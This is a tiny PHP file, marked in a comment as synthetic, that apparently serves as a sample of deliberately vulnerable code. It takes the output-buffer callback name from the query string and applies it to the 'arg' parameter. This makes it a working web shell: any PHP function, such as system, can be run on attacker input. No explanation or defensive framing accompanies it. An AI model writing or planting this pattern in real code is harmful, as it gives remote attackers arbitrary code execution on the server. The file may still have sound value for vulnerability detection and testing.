<?php
// synthetic: the output-buffer callback comes from the query string
$cb = $_GET['h'];
ob_start($cb);
echo $_GET['arg'];
ob_end_flush();
